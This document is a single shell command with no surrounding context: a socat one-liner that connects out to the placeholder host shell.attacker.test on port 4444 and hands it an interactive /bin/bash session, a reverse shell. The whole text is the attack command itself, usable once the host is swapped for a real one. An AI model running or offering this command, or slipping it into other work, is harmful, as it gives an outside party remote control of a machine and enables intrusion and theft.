socat TCP:shell.attacker.test:4444 EXEC:/bin/bash,pty
